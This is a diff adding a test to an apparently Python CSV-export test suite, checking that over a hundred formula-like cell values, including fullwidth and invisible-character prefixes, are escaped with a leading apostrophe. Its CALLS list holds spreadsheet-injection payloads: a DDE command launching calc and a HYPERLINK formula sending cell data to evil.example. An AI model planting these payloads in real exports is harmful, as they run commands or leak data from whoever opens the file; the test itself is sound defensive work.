@@ -41,6 +41,19 @@ def test_no_cell_begins_as_a_formula(risky: str, text: str) -> None:
     assert cell(risky + text)[0] == "'"
 
 
+STARTS = ("=", "+", "-", "@", "\t=", "\r=", "\n=", "\uff1d", "\uff0b", "\uff0d", "\uff20")
+UNSEEN = ("", " ", "\xa0", "\ufeff", "\u200b", "\u3000", "\x00")
+CALLS = ("cmd|' /C calc'!A0", 'HYPERLINK("http://evil.example/?"&A1)', "1+1", 'DDE("a";"b";"c")')
+
+
+def test_none_of_a_hundred_formulas_begins_a_cell() -> None:
+    formulas = [f"{unseen}{start}{call}" for unseen in UNSEEN for start in STARTS for call in CALLS]
+    assert len(formulas) > 100
+    rows = read(b"".join(table(("a", "b"), [(one, "x") for one in formulas])))[1:]
+    assert [row[0][0] for row in rows] == ["'"] * len(formulas)
+    assert [text_of(row[0]) for row in rows] == formulas
+
+
 @proven(100)
 @given(st.floats(allow_nan=False, allow_infinity=False) | st.integers())
 def test_a_number_stays_one(value: float) -> None:
